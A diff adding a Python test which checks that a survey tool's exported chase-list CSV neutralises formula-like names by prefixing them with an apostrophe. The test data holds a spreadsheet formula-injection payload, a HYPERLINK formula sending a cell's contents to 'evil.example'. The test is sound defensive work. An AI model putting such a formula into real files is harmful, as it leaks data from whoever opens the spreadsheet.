@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import json
 import mailbox
@@ -454,3 +455,18 @@ def test_the_same_bytes_under_another_extension_are_not_kept_twice(tmp_path: Pat
     assert renamed.returncode == 0 and renamed.stdout.strip() == f"{tmp_path / 'good.odt'}: Good Person: same as before"
     sha = hashlib.sha256(good.read_bytes()).hexdigest()
     assert sorted(p.name for p in (rnd / "received").glob(f"{sha}.*")) == [f"{sha}.docx"]
+
+
+def test_the_chase_list_keeps_formula_like_names_as_text(tmp_path: Path) -> None:
+    people = tmp_path / "people.csv"
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    with people.open("w", newline="", encoding="utf-8") as f:
+        csv.writer(f).writerows([["name", "organisation", "role", "email"],
+                                 [evil, "+Acme", "Member", "@x@example.org"], ["Ann Bee", "Police", "Member", "a@b.org"]])
+    rnd = tmp_path / "r"
+    assert run("round", "start", "sa2003", str(rnd), "--respondents", str(people)).returncode == 0
+    chase = tmp_path / "chase.csv"
+    assert run("round", "status", str(rnd), "--chase", str(chase)).returncode == 0
+    rows = list(csv.reader(chase.read_text("utf-8").splitlines()))
+    assert rows[1][:4] == ["'" + evil, "'@x@example.org", "'+Acme", "Member"]
+    assert rows[2][:4] == ["Ann Bee", "a@b.org", "Police", "Member"]
